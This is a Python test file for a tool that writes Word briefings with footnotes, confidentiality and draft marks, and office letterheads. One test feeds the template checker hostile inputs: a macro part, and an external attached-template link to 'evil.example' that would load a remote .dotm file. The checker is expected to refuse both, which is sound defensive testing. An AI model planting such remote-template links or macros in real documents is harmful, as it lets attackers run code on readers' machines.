"""Word documents: real footnotes, marks on every page, an office's own paper; seen by LibreOffice."""

import io
import re
import subprocess
import zipfile

import docx
import pytest
from docx.shared import Mm
from lxml import etree
from msgspec.structs import replace

from app.briefing.word.checking import check_template, read_template
from app.briefing.word.template import copy_template, template
from app.briefing.word.writer import docx_bytes
from graph.errors import SettingsError
from tests.app.briefing.documents import HOSTILE, hostile, made, of_notes
from tests.offices.libre_office import converted
from tests.offices.programs import program

W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


def part(content: bytes, name: str) -> etree._Element:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return etree.fromstring(archive.read(name))


def texts(root: etree._Element) -> list[str]:
    return [text_of(paragraph) for paragraph in root.iter(f"{W}p")]


def text_of(paragraph: etree._Element) -> str:
    return "".join(letters.text or "" for letters in paragraph.iter(f"{W}t"))


def paper(**changes) -> bytes:
    """Our template with paragraphs added, or fields replaced."""
    word = docx.Document(io.BytesIO(template()))
    for text in changes.get("also", ()):
        word.add_paragraph(text)
    if "header" in changes:
        word.sections[0].header.paragraphs[0].text = changes["header"]
    if "width" in changes:
        word.sections[0].page_width = changes["width"]
    if "content" in changes:
        word.paragraphs[0].text = changes["content"]
    made = io.BytesIO()
    word.save(made)
    return made.getvalue()


def test_every_footnote_is_cited_once_by_id_and_again_by_cross_reference():
    content = docx_bytes(of_notes(300))
    body = part(content, "word/document.xml")
    cited = [int(one.get(f"{W}id")) for one in body.iter(f"{W}footnoteReference")]
    kept = {
        int(one.get(f"{W}id")): "".join(one.itertext()).strip()
        for one in part(content, "word/footnotes.xml")
    }
    assert cited == list(range(1, 301))
    assert {number: kept[number] for number in cited} == {n: f"Row {n}." for n in cited}
    again = [one.text.strip() for one in body.iter(f"{W}instrText")]
    assert again == ["NOTEREF _RefNote1 \\f \\h", "NOTEREF _RefNote300 \\f \\h"]
    marks = {one.get(f"{W}name") for one in body.iter(f"{W}bookmarkStart")}
    assert {f"_RefNote{number}" for number in cited} == marks


def test_the_same_document_gives_the_same_bytes():
    document = made("laporan_informasi")
    assert docx_bytes(document) == docx_bytes(document)


def test_hostile_text_stays_text_and_is_read_back_whole():
    content = docx_bytes(hostile())
    told = texts(part(content, "word/document.xml"))
    for text in HOSTILE:
        assert any(text in line for line in told), text
    assert "{{judul}} {{isi}}" in " ".join(told)


def test_no_name_of_whoever_made_it_stands_in_the_file():
    facts = docx.Document(io.BytesIO(docx_bytes(hostile()))).core_properties
    assert (facts.author, facts.last_modified_by) == ("Simpul", "Simpul")
    assert facts.comments == "simpul-log 1:ab"
    assert facts.created.date().isoformat() == "2026-01-01"


def test_every_page_is_marked_as_long_as_nobody_approved_it():
    content = docx_bytes(made("laporan_informasi", "id"))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        (header,) = [name for name in archive.namelist() if name.startswith("word/header")]
        (footer,) = [name for name in archive.namelist() if name.startswith("word/footer")]
        marks, foot = archive.read(header).decode(), archive.read(footer).decode()
    assert 'string="DRAF"' in marks
    assert "RAHASIA" in marks
    assert "nama samaran" in marks
    assert "RAHASIA" in foot
    assert "NUMPAGES" in foot


def test_an_approved_edition_bears_no_draft():
    content = docx_bytes(replace(made("laporan_informasi", "id"), is_draft=False))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist())
    assert b"DRAF" not in everything


def test_an_office_puts_the_briefing_on_its_own_paper():
    own = paper(header="KEMENTERIAN {{tanggal}}", also=["Tembusan: arsip {{nomor}}"])
    assert [one for one in check_template(own) if one.stops] == []
    document = made("laporan_informasi", "id", fields={"number": "R/1"})
    content = docx_bytes(document, own)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        (header,) = [name for name in archive.namelist() if name.startswith("word/header")]
        marks = archive.read(header).decode()
    assert "KEMENTERIAN 30 November 2026" in marks
    assert "RAHASIA" in marks
    told = texts(part(content, "word/document.xml"))
    assert told[-1] == "Tembusan: arsip Nomor: R/1"
    assert "LAPORAN INFORMASI" in told
    assert not any("{{" in line for line in told)


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (lambda: b"no archive", "no Word document"),
        (lambda: paper(also=["{{name}}"]), "{{name}} is no field; use one of"),
        (lambda: paper(also=["{{isi}}"]), "stands twice"),
        (lambda: paper(content="Text {{isi}} text"), "shares its paragraph"),
        (lambda: paper(content="-", header="{{isi}}"), "stands in a table or header"),
        (lambda: docx_bytes(of_notes(1)), "footnotes of its own"),
        (lambda: with_part("word/vbaProject.bin", b"x"), "holds macros"),
        (
            lambda: with_part(
                "word/_rels/settings.xml.rels",
                b'<Relationships><Relationship Id="r" Type="http://x/attachedTemplate"'
                b' Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
            ),
            "loads something from outside",
        ),
    ],
)
def test_a_template_that_would_do_harm_is_refused_with_what_to_mend(content, said, tmp_path):
    path = tmp_path / "kantor.docx"
    path.write_bytes(content())
    with pytest.raises(SettingsError, match=re.escape(said)) as refused:
        read_template(path)
    assert str(refused.value).startswith("kantor.docx: ")


def with_part(name: str, content: bytes) -> bytes:
    made = io.BytesIO(template())
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr(name, content)
    return made.getvalue()


def test_what_can_be_put_right_is_only_said():
    found = check_template(paper(content="", width=Mm(216)))
    assert [one.stops for one in found] == [False, False]
    told = " ".join(str(one.said) for one in found)
    assert "the briefing goes to the end" in told
    assert "not A4" in told
    plain = io.BytesIO()
    docx.Document().save(plain)
    assert any(
        "style Simpul Fact is missing" in str(one.said) for one in check_template(plain.getvalue())
    )
    assert "Sentence 1." in texts(
        part(docx_bytes(of_notes(1), plain.getvalue()), "word/document.xml")
    )


def test_a_hyperlink_of_the_letterhead_is_no_harm():
    linked = with_part(
        "word/_rels/header9.xml.rels",
        b'<Relationships><Relationship Id="r" Type="http://x/relationships/hyperlink"'
        b' Target="https://kp2mi.go.id" TargetMode="External"/></Relationships>',
    )
    assert [one for one in check_template(linked) if one.stops] == []


def test_our_template_is_copied_for_an_office_and_passes_its_own_check(tmp_path):
    copied = copy_template(tmp_path / "kantor.docx")
    assert check_template(copied.read_bytes()) == ()
    with pytest.raises(SettingsError, match="there already"):
        copy_template(copied)


@pytest.mark.slow
@pytest.mark.parametrize("language", ["id", "en"])
def test_libre_office_shows_pages_with_footnotes_and_marks(language, tmp_path):
    program("soffice")
    path = tmp_path / "li.docx"
    path.write_bytes(docx_bytes(made("laporan_informasi", language)))
    (pdf,) = converted(path, "pdf", tmp_path)
    shown = subprocess.run(
        [program("pdftotext"), "-layout", str(pdf), "-"], capture_output=True, check=True, text=True
    ).stdout
    pages = shown.split("\f")[:-1]
    assert len(pages) > 1
    assert all(page.count("RAHASIA") == 2 for page in pages)
    draft = "DRAF: belum disetujui" if language == "id" else "DRAFT: not approved"
    assert all(draft in page for page in pages)
    assert ("baris 2 (kasus 001" if language == "id" else "row 2 (case 001") in pages[0]
    assert f"1 / {len(pages)}" in pages[0]
